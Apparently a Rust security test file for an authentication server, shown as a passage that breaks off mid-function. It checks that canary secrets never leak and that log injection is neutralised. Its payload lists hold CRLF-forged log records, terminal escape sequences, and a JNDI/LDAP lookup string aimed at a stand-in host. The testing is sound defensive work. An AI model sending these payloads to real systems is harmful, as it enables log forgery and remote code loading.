use std::collections::BTreeSet;
use std::fmt::Debug;
use std::path::Path;
use std::sync::Mutex;

use data_encoding::{BASE32_NOPAD, BASE64, BASE64URL_NOPAD, HEXLOWER};
use foundation::db::Statement;
use foundation::kernel::{MasterKeys, Secret, Timestamp};
use pearlgate::access::setup;
use reqwest::{Method, RequestBuilder};
use rusqlite::types::ValueRef;
use serde_json::{Value, json};

use super::support::{clean, host, token_of, wire};
use crate::journeys::authenticator::{code_at, strings};
use crate::program::api::Api;
use crate::program::child::{Call, PATIENCE, Server, dev, pearlgate, until};
use crate::support::browser::{COOKIE, EXCHANGE, forms, parameter};
use crate::support::idp::{CLIENT, Idp};
use crate::support::receiver::Receiver;
use crate::support::soft_key::{SoftKey, b64};
use crate::support::{Answer, Engine, TestApp};
use crate::{both, both_with};

/// Longer than any line of a log has to be.
const LONGEST_LINE: usize = 16 * 1024;
const MIB: usize = 1 << 20;

/// A secret that must not be found where it does not belong.
#[derive(Debug, Clone)]
struct Canary {
    name: &'static str,
    text: String,
    /// Why an answer that is no refusal holds it; empty when none may.
    given: &'static str,
    /// Six digits: they stand in a file of bytes by chance, and are looked for as words, in what is written for people.
    short: bool,
}

impl Canary {
    /// What it looks like when somebody else writes it down: without what it begins with, encoded otherwise, as bytes.
    fn forms(&self) -> Vec<String> {
        let text = self.text.as_str();
        let mut all = vec![text.to_owned()];
        if self.short {
            return all;
        }
        if text.contains(' ') {
            all.extend([text.replace(' ', "+"), text.replace(' ', "%20")]);
        }
        if self.name == "recovery code" {
            all.push(text.replace('-', ""));
        }
        let bare = match text.split_once('_') {
            Some((start, rest)) if start == "whsec" || (start.len() == 3 && start.starts_with("pg")) => rest,
            // Of an access token its signature: the rest of it is no secret.
            _ => text.rsplit('.').next().unwrap_or(text),
        };
        if bare != text && bare.len() >= 16 {
            all.push(bare.to_owned());
        }
        for encoding in [&BASE64URL_NOPAD, &BASE64, &BASE32_NOPAD] {
            if let Some(bytes) = encoding.decode(bare.as_bytes()).ok().filter(|bytes| bytes.len() >= 16) {
                all.extend([latin(&bytes), HEXLOWER.encode(&bytes)]);
            }
        }
        all
    }
}

/// Bytes as text, each a character: what is ASCII in them is found, and so are bytes.
fn latin(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| char::from(*byte)).collect()
}

/// Whether it is there; as a word of its own when chance could write it in the midst of a number.
fn finds(text: &str, what: &str, word: bool) -> bool {
    if !word {
        return text.contains(what);
    }
    let part = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '.');
    text.match_indices(what)
        .any(|(at, _)| !part(text[..at].chars().next_back()) && !part(text[at + what.len()..].chars().next()))
}

struct Noted {
    what: String,
    status: u16,
    /// Head and body.
    text: String,
}

/// A client that writes down what it is answered and what nobody else may learn.
struct Notes {
    api: Api,
    answers: Mutex<Vec<Noted>>,
    canaries: Mutex<Vec<Canary>>,
}

impl Notes {
    fn of(url: &str) -> Self {
        Self { api: Api::new(url), answers: Mutex::default(), canaries: Mutex::default() }
    }

    fn request(&self, method: Method, path: &str, access: &str) -> RequestBuilder {
        let request = self.api.request(method, path);
        if access.is_empty() { request } else { request.bearer_auth(access) }
    }

    /// Sends, looks at the answer if it is a refusal, and keeps it and the tokens in it.
    async fn send(&self, what: &str, request: RequestBuilder) -> Answer {
        let answer = self.broken(what, request).await;
        assert!(answer.status < 500, "{what}: {}", answer.text);
        if answer.status >= 400 {
            clean(what, answer.status, &answer.text);
        }
        answer
    }

    /// The same where the server is allowed to fail.
    async fn broken(&self, what: &str, request: RequestBuilder) -> Answer {
        let answer = self.api.send(request).await;
        let text = format!("{:?} {}", answer.headers, answer.text);
        self.answers.lock().unwrap().push(Noted { what: what.to_owned(), status: answer.status, text });
        for (name, place) in [
            ("access token", "access_token"),
            ("refresh token", "refresh_token"),
            ("half login", "mfa_token"),
            ("device token", "device_token"),
        ] {
            if let Some(text) = answer.json[place].as_str().filter(|text| !text.is_empty()) {
                self.plant(name, text, "whoever signs in is given it");
            }
        }
        for cookie in answer.headers.get_all("set-cookie") {
            let pair = cookie.to_str().unwrap().split(';').next().unwrap();
            if let Some((_, value)) = pair.split_once('=').filter(|(_, value)| value.len() >= 16) {
                self.plant("cookie", value, "the browser is given it");
            }
        }
        answer
    }

    async fn get(&self, path: &str, access: &str) -> Answer {
        self.send(path, self.request(Method::GET, path, access)).await
    }

    async fn change(&self, method: Method, path: &str, access: &str, body: Value) -> Answer {
        self.send(path, self.request(method, path, access).json(&body)).await
    }

    async fn post(&self, path: &str, access: &str, body: Value) -> Answer {
        self.change(Method::POST, path, access, body).await
    }

    /// Whatever becomes of so much: it is refused, or the connection is closed.
    async fn too_much(&self, what: &str, request: RequestBuilder) {
        if let Some(answer) = self.api.try_send(request).await {
            clean(what, answer.status, &answer.text);
            assert!(answer.status >= 400, "{what}: {}", answer.status);
        }
    }

    /// Lets time pass; what time it is then. This and the mailbox are dev mode's own: nobody writes them down.
    async fn wait(&self, how_long: &str) -> Timestamp {
        let moved = self.api.post("/dev/v1/clock", json!({ "advance": how_long })).await;
        Timestamp::parse(&moved.str("/now")).unwrap()
    }

    /// The newest mail of a kind to somebody, waited for, and its secrets.
    async fn mail(&self, to: &str, kind: &str) -> Value {
        let mail = until(&format!("a {kind} mail to {to} arrives"), PATIENCE, || async {
            let path = format!("/dev/v1/messages?to={to}&kind={kind}");
            self.api.get(&path).await.json["items"].as_array().unwrap().first().cloned()
        })
        .await;
        self.mailed(&mail);
        mail
    }

    fn mailed(&self, mail: &Value) {
        for link in strings(&mail["links"]).iter().filter(|link| link.contains("token=")) {
            self.plant("mailed token", &token_of(link), "");
        }
        if let Some(code) = mail["code"].as_str().filter(|code| !code.is_empty()) {
            self.digits("mailed code", code);
        }
    }

    fn put(&self, canary: Canary) {
        let mut all = self.canaries.lock().unwrap();
        // What an answer may hold it may hold however often it is seen.
        if !all.iter().any(|one| one.text == canary.text) {
            all.push(canary);
        }
    }

    fn plant(&self, name: &'static str, text: &str, given: &'static str) {
        self.put(Canary { name, text: text.to_owned(), given, short: false });
    }

    fn digits(&self, name: &'static str, text: &str) {
        self.put(Canary { name, text: text.to_owned(), given: "", short: true });
    }

    /// An exception that is known beforehand.
    fn allow(&self, text: &str, given: &'static str) {
        self.canaries
            .lock()
            .unwrap()
            .iter_mut()
            .filter(|one| one.text == text)
            .for_each(|one| one.given = given);
    }

    fn canaries(&self) -> Vec<Canary> {
        self.canaries.lock().unwrap().clone()
    }

    /// Nothing of it is there.
    fn silent(&self, place: &str, text: &str, which: impl Fn(&Canary) -> bool) {
        for one in self.canaries().iter().filter(|one| which(one)) {
            for form in one.forms() {
                assert!(!finds(text, &form, one.short), "{place} tells the {}: {form:?}", one.name);
            }
        }
    }

    /// Of all answers: refusals tell nothing, the others what they are there for.
    fn answers_are_silent(&self) {
        let (answers, canaries) = (self.answers.lock().unwrap(), self.canaries());
        assert!(answers.iter().filter(|one| one.status >= 400).count() >= 10, "too few refusals to speak of");
        for one in &canaries {
            let forms = one.forms();
            for answer in answers.iter().filter(|answer| answer.status >= 400 || one.given.is_empty()) {
                for form in &forms {
                    assert!(
                        !finds(&answer.text, form, one.short),
                        "{} ({}) tells the {}: {form:?} in {}",
                        answer.what,
                        answer.status,
                        one.name,
                        answer.text
                    );
                }
            }
        }
    }

    /// Registers and verifies somebody.
    async fn person(&self, email: &str, password: &str) -> Answer {
        let body = json!({ "email": email, "password": password, "display_name": "Ada" });
        let asked = self.post("/v1/auth/register", "", body).await;
        assert_eq!(asked.status, 202, "{}", asked.text);
        let mail = self.mail(email, "verify_email").await;
        let body = json!({ "verification_id": asked.str("/verification_id"), "code": mail["code"] });
        let entered = self.post("/v1/auth/verify-email", "", body).await;
        assert_eq!(entered.status, 200, "{}", entered.text);
        entered
    }

    async fn login(&self, email: &str, password: &str) -> Answer {
        let entered = self.post("/v1/auth/login", "", json!({ "email": email, "password": password })).await;
        assert_eq!(entered.status, 200, "{}", entered.text);
        entered
    }

    /// The code that an authenticator app shows next.
    async fn next_code(&self, seed: &str) -> String {
        let code = code_at(seed, self.wait("30s").await);
        self.digits("TOTP code", &code);
        code
    }

    /// Signs in with password and code; the access token.
    async fn login_with(&self, email: &str, password: &str, seed: &str) -> String {
        let half = self.login(email, password).await.str("/mfa_token");
        let code = self.next_code(seed).await;
        let body = json!({ "mfa_token": half, "type": "totp", "code": code });
        let entered = self.post("/v1/auth/mfa", "", body).await;
        assert_eq!(entered.status, 200, "{}", entered.text);
        entered.str("/access_token")
    }

    /// Sets up an authenticator app; its seed and the recovery codes.
    async fn enrol(&self, access: &str) -> (String, Vec<String>) {
        let begun = self.post("/v1/me/mfa/totp", access, json!({})).await;
        assert_eq!(begun.status, 200, "{}", begun.text);
        let seed = begun.str("/secret");
        self.plant("TOTP seed", &seed, "whoever sets up an authenticator app is shown it once");
        let code = self.next_code(&seed).await;
        let done = self.post("/v1/me/mfa/totp/confirm", access, json!({ "code": code })).await;
        assert_eq!(done.status, 200, "{}", done.text);
        let recovery = strings(&done.json["recovery_codes"]);
        for code in &recovery {
            self.plant("recovery code", code, "whoever sets up a factor is shown them once");
        }
        (seed, recovery)
    }

    /// Sets the server up; the owner's seed and a fresh access token.
    async fn found(&self, link: &str, password: &str) -> (String, String) {
        let token = token_of(link);
        self.plant("set-up token", &token, "");
        self.plant("password", password, "");
        let body = json!({ "token": token, "email": OWNER, "password": password });
        let done = self.post("/v1/setup", "", body).await;
        assert_eq!(done.status, 201, "{}", done.text);
        let (seed, _) = self.enrol(&self.login(OWNER, password).await.str("/access_token")).await;
        let access = self.login_with(OWNER, password, &seed).await;
        (seed, access)
    }
}

const OWNER: &str = "owner@ex.test";

/// The link of the first start, as whoever starts the server is given it: on standard output.
async fn first_link(server: &Server) -> String {
    let line = server.out.with("first operator").await;
    line.rsplit(' ').next().unwrap().to_owned()
}

/// One column of text, from the database itself.
async fn texts(app: &TestApp, sql: String) -> Vec<String> {
    let statement: &'static Statement =
        Box::leak(Box::new(Statement { name: "TEXTS", text: Box::leak(sql.into_boxed_str()) }));
    let rows = app.app.db.read_one(move |tx| tx.all::<(String,)>(statement, &[])).await.unwrap();
    rows.into_iter().map(|(text,)| text).collect()
}

/// Every table of a file as text, its bytes in hex.
fn tables_of(file: &Path) -> Vec<(String, String)> {
    let file = rusqlite::Connection::open(file).unwrap();
    let mut list = file
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")
        .unwrap();
    let names: Vec<String> = list.query_map([], |row| row.get(0)).unwrap().map(Result::unwrap).collect();
    let table = |name: String| {
        let mut all = file.prepare(&format!("SELECT * FROM \"{name}\"")).unwrap();
        let (width, mut cells) = (all.column_count(), Vec::new());
        let mut rows = all.query([]).unwrap();
        while let Some(row) = rows.next().unwrap() {
            for at in 0..width {
                cells.push(match row.get_ref(at).unwrap() {
                    ValueRef::Text(bytes) => String::from_utf8_lossy(bytes).into_owned(),
                    ValueRef::Blob(bytes) => HEXLOWER.encode(bytes),
                    other => format!("{other:?}"),
                });
            }
        }
        (name, cells.join(" | "))
    };
    names.into_iter().map(table).collect()
}

/// Every table as text.
async fn tables(app: &TestApp) -> Vec<(String, String)> {
    if app.engine == Engine::Sqlite {
        return tables_of(&app.dir.path().join("pearlgate.db"));
    }
    let names =
        "SELECT CAST(tablename AS TEXT) FROM pg_tables WHERE schemaname = current_schema()".to_owned();
    let mut all = Vec::new();
    for name in texts(app, names).await {
        let rows = texts(app, format!("SELECT CAST(row_to_json(t) AS TEXT) FROM \"{name}\" AS t")).await;
        all.push((name, rows.join("\n")));
    }
    all
}

/// What a line of the log has to be: one record of ours, on one line, with nothing in it that a terminal or another reader
/// takes for something else.
fn record(line: &str) -> Value {
    assert!(line.len() <= LONGEST_LINE, "{} bytes: {}…", line.len(), &line[..200]);
    let odd = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}');
    assert!(!line.contains(odd), "something that is no text is in {line:?}");
    let record: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("no JSON ({e}): {line}"));
    let keys: BTreeSet<&str> = record.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, BTreeSet::from(["fields", "level", "target", "timestamp"]), "{line}");
    assert!(record["fields"].is_object() && record["target"].is_string(), "{line}");
    assert!(record["timestamp"].as_str().is_some_and(|at| Timestamp::parse(at).is_some()), "{line}");
    let level = record["level"].as_str().unwrap();
    assert!(["ERROR", "WARN", "INFO", "DEBUG"].contains(&level), "{line}");
    record
}

/// Texts that want to be an event of their own, to colour a terminal, or to end the record that they stand in.
const POISON: [&str; 14] = [
    "x\r\n{\"timestamp\":\"2026-11-23T10:00:00Z\",\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"},\"target\":\"pearlgate\"}",
    "x\n2026-11-23T10:00:00Z ERROR forged",
    "x\rforged",
    "\u{1b}[31mforged\u{1b}[0m",
    "\u{1b}]0;forged\u{7}",
    "\u{9b}31mforged",
    "x\u{2028}{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"}}",
    "x\u{2029}forged",
    "x\u{85}forged",
    "x\u{0}forged",
    "x\"},\"level\":\"ERROR\",\"fields\":{\"message\":\"forged",
    "x\\\",\\\"level\\\":\\\"ERROR\\\" forged",
    "%0d%0aforged %1b[31m \\r\\n \\u000a",
    "${jndi:ldap://ex.test/forged} {} %s %n",
];

/// Bytes that no client library sends.
const BYTES: [&[u8]; 6] = [
    b"x\x1b[31mforged\x1b[0m",
    b"x\nforged: 1",
    b"x\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
    b"x\0forged",
    b"x\x7f\x08forged",
    b"x\xe2\x80\xa8\xff\xfe\x9b31mforged",
];

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Every place that takes a text, as a stranger, as somebody and as an operator.
async fn poisoned(notes: &Notes, link: &str) {
    let (_, owner) = notes.found(link, "ochre walrus juggles twelve lamps").await;
    let (first, second) = ("violet heron folds nine maps", "amber stoat counts six bells");
    let eve = notes.person("eve@ex.test", second).await.str("/user/id");
    let ada = notes.person("ada@ex.test", first).await;
    let (ada_id, ada) = (ada.str("/user/id"), ada.str("/access_token"));

    // Operators' words: what is taken stands in the trail once, as it was written.
    let mut taken = Vec::new();
    for (n, text) in POISON.into_iter().enumerate() {
        let suspend = format!("/v1/admin/users/{eve}/suspend");
        let done = notes.post(&suspend, &owner, json!({ "reason": text })).await;
        if done.status == 204 {
            taken.push(text);
            let back = notes.post(&format!("/v1/admin/users/{eve}/unsuspend"), &owner, json!({})).await;
            assert_eq!(back.status, 204, "{}", back.text);
        } else {
            assert_eq!(done.status, 422, "{text:?}: {}", done.text);
        }
        for (path, body) in [
            ("/v1/admin/webhooks", json!({ "url": "http://127.0.0.1:1/hook", "description": text })),
            ("/v1/admin/roles", json!({ "name": format!("r{n}"), "level": 1, "description": text })),
            ("/v1/admin/api-keys", json!({ "name": text, "permissions": ["access:check"] })),
        ] {
            let made = notes.post(path, &owner, body).await;
            assert!(made.status == 201 || made.status == 422, "{path} {text:?}: {}", made.text);
            if made.status == 201 {
                let id = made.json["id"].as_str().or(made.json["api_key"]["id"].as_str());
                let one = format!("{path}/{}", id.unwrap_or_else(|| panic!("no id in {}", made.text)));
                let gone = notes.send(&one, notes.request(Method::DELETE, &one, &owner)).await;
                assert_eq!(gone.status, 204, "{one}: {}", gone.text);
            }
        }
    }
    assert!(taken.len() >= 2, "what is one line is a reason: {taken:?}");
    let trail = notes.get(&format!("/v1/admin/audit?stream={eve}&limit=200"), &owner).await;
    let trail = trail.json["items"].as_array().unwrap();
    for text in taken {
        let told = trail.iter().filter(|one| one["details"]["reason"] == text).count();
        assert_eq!(told, 1, "{text:?} stands in one event");
    }

    // One's own words.
    let mut changed = 0;
    for text in POISON {
        let answer = notes.change(Method::PATCH, "/v1/me", &ada, json!({ "display_name": text })).await;
        match answer.status {
            200 => {
                changed += 1;
                assert_eq!(answer.json["display_name"], text);
            }
            status => assert_eq!(status, 422, "{text:?}: {}", answer.text),
        }
        let answer = notes.change(Method::PATCH, "/v1/me", &ada, json!({ "metadata": { text: text } })).await;
        assert!(answer.status == 200 || answer.status == 422, "{text:?}: {}", answer.text);
        changed += usize::from(answer.status == 200);
    }
    let trail = notes.get(&format!("/v1/admin/audit?stream={ada_id}&limit=200"), &owner).await;
    let trail = trail.json["items"].as_array().unwrap();
    let told = trail.iter().filter(|one| one["kind"] == "profile_changed").count();
    assert_eq!(told, changed, "each change is one event");

    // Addresses, wherever one is asked for, and codes and tokens.
    for text in POISON {
        for address in [text.to_owned(), format!("{text}@ex.test"), format!("mark@{text}.ex.test")] {
            for path in ["/v1/auth/forgot-password", "/v1/auth/magic-link", "/v1/auth/resend-verification"] {
                let answer = notes.post(path, "", json!({ "email": address })).await;
                assert!(answer.status == 202 || answer.status == 422, "{path} {address:?}: {}", answer.text);
            }
            let body = json!({ "email": address, "password": text });
            let answer = notes.post("/v1/auth/login", "", body).await;
            assert!((400..500).contains(&answer.status), "{address:?}: {}", answer.text);
        }
        for (path, body) in [
            ("/v1/auth/refresh", json!({ "refresh_token": text })),
            ("/v1/auth/reset-password", json!({ "token": text, "password": text })),
            ("/v1/auth/mfa", json!({ "mfa_token": text, "type": "totp", "code": text })),
            (EXCHANGE, json!({ "code": text })),
        ] {
            let answer = notes.post(path, "", body).await;
            assert!((400..500).contains(&answer.status), "{path} {text:?}: {}", answer.text);
        }
        // A token whose key has such a name.
        let head = json!({ "alg": "ES256", "typ": "at+jwt", "kid": text }).to_string();
        let forged = format!("{}.{}.{}", b64(head.as_bytes()), b64(b"{\"sub\":\"x\"}"), b64(&[7; 64]));
        assert_eq!(notes.get("/v1/me", &forged).await.refusal(), "401 token_invalid", "{text:?}");
        // Addresses of pages, and what stands behind the question mark.
        for path in [format!("/{}", escaped(text)), format!("/v1/hooks/mail/{}", escaped(text))] {
            let answer = notes.post(&path, "", json!({})).await;
            assert!((400..500).contains(&answer.status), "{path}: {}", answer.text);
        }
        for path in [
            format!("/v1/me/activity?{}={}", escaped(text), escaped(text)),
            format!("/v1/me/activity?cursor={}", escaped(text)),
            format!("/errors/{}", escaped(text)),
        ] {
            let answer = notes.get(&path, &ada).await;
            assert!((400..500).contains(&answer.status), "{path}: {}", answer.text);
        }
        // A provider's words, as any browser can bring them: its error, and what it says of it.
        for error in ["access_denied", text] {
            let started = notes.get("/v1/auth/oauth/dev/start", "").await;
            let cookie = started.header("set-cookie").split(';').next().unwrap().to_owned();
            let state = forms(&started.text)[0]["state"].clone();
            let back = format!(
                "/v1/auth/oauth/dev/callback?state={}&error={}&error_description={}&error_uri={}",
                escaped(&state),
                escaped(error),
                escaped(text),
                escaped(text)
            );
            let request = notes.request(Method::GET, &back, "").header("cookie", cookie);
            let answer = notes.broken("a provider refuses", request).await;
            // What no provider could have said is no answer of one.
            let fine: &[u16] = if error == text { &[400, 503] } else { &[303] };
            assert!(fine.contains(&answer.status), "{error:?}: {}", answer.text);
            let told = format!("{:?} {}", answer.headers, answer.text);
            assert!(!told.contains("forged"), "a provider's words are handed on: {told}");
        }
    }

    // Headers as a library sends them, and what a sign-in keeps of them: one event each.
    let count = async || {
        let trail =
            notes.get(&format!("/v1/admin/audit?stream={ada_id}&kind=sign_in&limit=200"), &owner).await;
        trail.json["items"].as_array().unwrap().len()
    };
    let (before, mut entered) = (count().await, 0);
    for text in POISON.into_iter().filter(|text| text.bytes().all(|byte| (b' '..=b'~').contains(&byte))) {
        let body = json!({ "email": "ada@ex.test", "password": first, "device_name": text });
        let login = notes.request(Method::POST, "/v1/auth/login", "").json(&body);
        let login =
            login.header("user-agent", text).header("x-forwarded-for", text).header("idempotency-key", text);
        let answer = notes.send("a sign-in", login).await;
        assert_eq!(answer.status, 200, "{text:?}: {}", answer.text);
        entered += 1;
        let forgot =
            notes.request(Method::POST, "/v1/auth/forgot-password", "").header("idempotency-key", text);
        let answer =
            notes.send("forgot", forgot.json(&json!({ "email": format!("no{entered}@ex.test") }))).await;
        assert_eq!(answer.status, 202, "{text:?}: {}", answer.text);
    }
    assert_eq!(count().await, before + entered, "each sign-in is one event");
    assert!(entered >= 3, "the trap: some are taken");

    // As much as goes in, and more: a device's name of a mebibyte is refused.
    let body = json!({ "email": "ada@ex.test", "password": first });
    let login = notes.request(Method::POST, "/v1/auth/login", "").json(&body);
    let answer = notes.send("a long agent", login.header("user-agent", "Z".repeat(8 * 1024))).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    let long = "Z".repeat(MIB);
    for name in ["user-agent", "x-forwarded-for", "idempotency-key", "cookie", "authorization"] {
        let request = notes.request(Method::GET, "/v1/auth/methods", "").header(name, &long);
        notes.too_much(name, request).await;
    }
    for (method, path, body) in [
        (Method::PATCH, "/v1/me", json!({ "display_name": long })),
        (Method::POST, "/v1/auth/login", json!({ "email": long, "password": long, "device_name": long })),
        (Method::POST, "/v1/auth/register", json!({ "email": format!("{long}@ex.test"), "password": long })),
        (Method::POST, "/v1/admin/roles", json!({ "name": "long", "description": long })),
        (Method::POST, "/v1/admin/webhooks", json!({ "url": "http://127.0.0.1:1/", "description": long })),
    ] {
        let access = if path.contains("admin") { &owner } else { &ada };
        notes.too_much(path, notes.request(method, path, access).json(&body)).await;
    }
    // The longest that a body may be, all of it one name.
    let body = json!({ "display_name": "Z".repeat(60_000) });
    assert_eq!(notes.change(Method::PATCH, "/v1/me", &ada, body).await.status, 422);

    // Bytes that no library sends.
    for bytes in BYTES {
        for name in ["User-Agent", "X-Forwarded-For", "Idempotency-Key", "Authorization", "Cookie", "Forged"]
        {
            let head = format!(
                "GET /v1/auth/methods HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{name}: ",
                host(&notes.api.url)
            );
            wire(&notes.api.url, &[head.as_bytes(), bytes, b"\r\n\r\n".as_slice()].concat()).await;
        }
        let rest = format!(" HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", host(&notes.api.url));
        wire(&notes.api.url, &[b"GET /".as_slice(), bytes, rest.as_bytes()].concat()).await;
        wire(&notes.api.url, &[b"GET /v1/me?x=".as_slice(), bytes, rest.as_bytes()].concat()).await;
    }
    assert_eq!(notes.get("/v1/auth/methods", "").await.status, 200, "it goes on");
}

/// A provider that puts such words into the token endpoint's refusals: what came of it stands in the log.
async fn poisoned_by_a_provider(notes: &Notes, idp: &Idp) {
    for text in POISON {
        idp.answer_token(400, json!({ "error": text, "error_description": text }));
        let started = notes.get("/v1/auth/oauth/idp/start", "").await;
        assert_eq!(started.status, 302, "{}", started.text);
        let cookie = started.header("set-cookie").split(';').next().unwrap().to_owned();
        let back = idp.authorize(started.header("location"));
        let back = back.strip_prefix(notes.api.url.as_str()).unwrap();
        let answer = notes.broken(back, notes.request(Method::GET, back, "").header("cookie", cookie)).await;
        let told = format!("{:?} {}", answer.headers, answer.text);
        assert!(answer.status != 500 && !told.contains("forged"), "{text:?}: {} {told}", answer.status);
    }
}

both! {
    async fn a84_cve_2021_42250_log_injection(app: &TestApp) {
        let link = setup::link(&app.app).await.unwrap().unwrap();
        poisoned(&Notes::of(&app.url), &link).await;
        app.quiet().await;
        for details in texts(app, "SELECT details FROM audit_events".to_owned()).await {
            let read: Value = serde_json::from_str(&details).unwrap_or_else(|e| panic!("{e}: {details:?}"));
            assert!(read.is_object() && !details.contains(|c: char| c < ' '), "{details:?}");
        }
        if app.engine == Engine::Postgres {
            // The log is the same program's.
            return;
        }

        let (dir, idp) = (tempfile::tempdir().unwrap(), Idp::start().await);
        let config = dir.path().join("more.toml");
        std::fs::write(&config, idp.toml("idp", "")).unwrap();
        let data = dir.path().join("data");
        let call = dev(&data).set("log.level", "debug").arg("--config").arg(config.to_str().unwrap());
        let server = call.start().await;
        let notes = Notes::of(&server.url);
        poisoned(&notes, &first_link(&server).await).await;
        poisoned_by_a_provider(&notes, &idp).await;
        let log = server.err.clone();
        server.stop().await;
        log.with("stopping").await;
        let lines = log.all();
        let mut words = Vec::new();
        for line in &lines {
            let message = record(line)["fields"]["message"].as_str().unwrap_or_default().to_owned();
            assert!(!message.contains("forged"), "an event that nobody meant: {line}");
            for person in ["ada@ex.test", "eve@ex.test", OWNER, "@ex.test"] {
                assert!(!line.contains(person), "{person} is in the log: {line}");
            }
            assert!(!line.contains(&"Z".repeat(1_024)), "what somebody sent is in the log as it is");
            words.push(message);
        }
        let said = words.iter().filter(|words| words.contains("an identity provider")).count();
        assert!(said >= POISON.len(), "what a provider did is in the log, a line each: {said} of {words:?}");
        // The trap would shut.
        for forged in [
            "{\"timestamp\":\"2026-11-23T10:00:00Z\",\"level\":\"ERROR\",\"fields\":{},\"target\":\"x\",\"forged\":1}",
            "ERROR forged",
            "{\"timestamp\":\"2026-11-23T10:00:00Z\",\"level\":\"ERROR\",\"fields\":{\"message\":\"\u{1b}[31m\"},\"target\":\"x\"}",
        ] {
            assert!(std::panic::catch_unwind(|| record(forged)).is_err(), "{forged:?}");
        }
    }
}

const SETTINGS: &str = "[providers.acme]\nissuer = \"https://id.example.com\"\nclient_id = \"x\"\n\
                        client_secret = \"canary-of-the-provider-in-the-settings\"\n\
                        [mail.smtp]\nport = 587\ntls = \"starttls\"\nusername = \"postman\"\n\
                        password = \"canary-of-the-mail-server\"\n";

/// Where a password's hash rests, and why. Nowhere else, and in no answer.
const HASHES: [(&str, &str); 3] = [
    ("password_credentials", "what a password is compared with"),
    ("email_verification_tokens", "the same, until the address is proven"),
    ("half_logins", "a change of the password ends what is half done"),
];

/// Tables that hold what happened: not even six digits of a secret are in them.
const TOLD: [&str; 6] =
    ["audit_events", "jobs", "dead_jobs", "mail_deliveries", "idempotency_keys", "webhook_events"];

const ADA: &str = "ada@ex.test";
const MOVED: &str = "moved@ex.test";
const LATE: &str = "late@ex.test";
/// Not a secret: it shows that what is stored in plain is found.
const PLANTED: &str = "Planted Canary Feather";

const OWNERS: &str = "ochre walrus juggles twelve lamps";
const FIRST: &str = "violet heron folds nine maps";
const SECOND: &str = "amber stoat counts six bells";
const THIRD: &str = "cobalt newt paints three doors";
const LATES: &str = "russet crane keeps eleven jars";
const MISTYPED: &str = "violet heron folds nine mapz";
const REFUSED: &str = "kestq7";

/// What the flows leave behind for whoever looks everywhere.
struct Left {
    seed: String,
    ada: String,
    hook: String,
    receiver: Receiver,
    _idp: Idp,
}

/// Everything that there is to do with a secret.
async fn flows(notes: &Notes, link: &str) -> Left {
    for (name, text) in [
        ("password", FIRST),
        ("password", SECOND),
        ("password", THIRD),
        ("password", LATES),
        ("mistyped password", MISTYPED),
        ("refused password", REFUSED),
        ("idempotency key", "canary-of-an-idempotency-key"),
        ("secret in the wrong place", "canary-in-the-wrong-place"),
        ("provider's secret", "canary-of-a-provider-added-late"),
        ("provider's secret", "canary-of-the-provider-in-the-settings"),
        ("mail server's password", "canary-of-the-mail-server"),
    ] {
        notes.plant(name, text, "");
    }

    // The server is set up, and told of whom it deals with.
    let (seed, owner) = notes.found(link, OWNERS).await;
    let receiver = Receiver::start().await;
    let hook = notes.post("/v1/admin/webhooks", &owner, json!({ "url": receiver.url })).await;
    assert_eq!(hook.status, 201, "{}", hook.text);
    notes.plant("webhook secret", &hook.str("/secret"), "whoever adds a webhook is shown it once");
    let key = json!({ "name": "shop", "permissions": ["access:check"] });
    let key = notes.post("/v1/admin/api-keys", &owner, key).await;
    assert_eq!(key.status, 201, "{}", key.text);
    notes.plant("API key", &key.str("/key"), "whoever makes a key is shown it once");
    let asked = notes.get("/v1/admin/users", &key.str("/key")).await;
    assert_eq!(asked.refusal(), "403 permission_denied");
    let idp = Idp::start().await;
    let settings = json!({ "issuer": idp.url(), "client_id": CLIENT, "client_secret": "canary-of-a-provider-added-late" });
    let added =
        notes.post("/v1/admin/providers", &owner, json!({ "id": "late", "settings": settings })).await;
    assert_eq!(added.status, 201, "{}", added.text);

    // Registration: refused, ambiguous, unreadable, and well.
    for body in [
        json!({ "email": ADA, "password": REFUSED }),
        json!({ "email": ADA, "password": FIRST, "secret": "canary-in-the-wrong-place" }),
        json!({ "email": ADA, "password": ["canary-in-the-wrong-place"] }),
        json!({ "email": ["canary-in-the-wrong-place"], "password": { "x": FIRST } }),
        json!({ "email": "canary-in-the-wrong-place", "password": FIRST }),
    ] {
        let refused = notes.post("/v1/auth/register", "", body).await;
        assert_eq!(refused.status, 422, "{}", refused.text);
    }
    for text in [
        format!("{{\"email\":\"{ADA}\",\"password\":\"{FIRST}"),
        format!("{{\"password\":\"{FIRST}\",\"password\":\"{FIRST}\"}}"),
        format!("\"{FIRST}\""),
        format!("{{\"password\":\"{FIRST}\\u00\"}}"),
    ] {
        let request =
            notes.request(Method::POST, "/v1/auth/login", "").header("content-type", "application/json");
        let refused = notes.send("an unreadable body", request.body(text)).await;
        assert_eq!(refused.status, 400, "{}", refused.text);
    }
    let body = json!({ "email": ADA, "password": FIRST, "display_name": PLANTED });
    for _ in 0..2 {
        let request = notes.request(Method::POST, "/v1/auth/register", "").json(&body);
        let request = request.header("idempotency-key", "canary-of-an-idempotency-key");
        assert_eq!(notes.send("register", request).await.status, 202);
    }
    let other = json!({ "email": ADA, "password": SECOND });
    let request = notes.request(Method::POST, "/v1/auth/register", "").json(&other);
    let reused =
        notes.send("register", request.header("idempotency-key", "canary-of-an-idempotency-key")).await;
    assert_eq!(reused.refusal(), "422 idempotency_key_reused");
    let request = notes.request(Method::POST, "/v1/auth/register", "").json(&body);
    let again =
        notes.send("register", request.header("idempotency-key", "canary-of-an-idempotency-key")).await;
    let mail = notes.mail(ADA, "verify_email").await;
    let verification = again.str("/verification_id");
    let token = token_of(&strings(&mail["links"])[0]);
    let end = if token.ends_with("AA") { "BB" } else { "AA" };
